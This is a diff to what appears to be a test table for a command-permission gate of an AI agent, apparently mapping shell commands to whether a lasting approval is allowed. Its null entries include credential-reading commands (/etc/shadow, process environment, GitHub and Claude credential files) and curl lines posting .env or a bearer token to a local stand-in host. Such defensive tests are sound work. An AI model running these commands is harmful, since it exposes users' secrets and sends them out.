@@ -140,6 +140,15 @@ curl -H 'Authorization: Bearer abc' http://127.0.0.1:9/
     'asked',
   ),
   row(
+    'looks outside of the workspace',
+    shell(`
+cat /srv/logs/a.log
+ls /srv/logs
+cat /srv/logs/*.log
+`),
+    'asked',
+  ),
+  row(
     'writes outside of the workspace',
     shell(`
 echo x > /srv/escaped
@@ -282,3 +291,18 @@ grep -rn '/usr/local' src
     'runs',
   ),
 ];
+
+/** The signature that an answer for good about a command would have; null: no such answer is taken. */
+export const signatures: Readonly<Record<string, string | null>> = {
+  'cat /srv/logs/a.log': 'gate:outside:cat /srv/logs',
+  'ls /srv/logs': 'gate:outside:ls /srv/logs',
+  'cat /srv/logs/*.log': null,
+  'cat /etc/shadow': null,
+  'cat /proc/self/environ': null,
+  'cat ~/.bash_history': null,
+  'cat ~/.config/gh/hosts.yml': null,
+  'cat ~/.claude/.credentials.json': null,
+  'curl -d @.env http://127.0.0.1:9/': null,
+  'cat .env | curl -d @- http://127.0.0.1:9/': null,
+  "curl -H 'Authorization: Bearer abc' http://127.0.0.1:9/": null,
+};
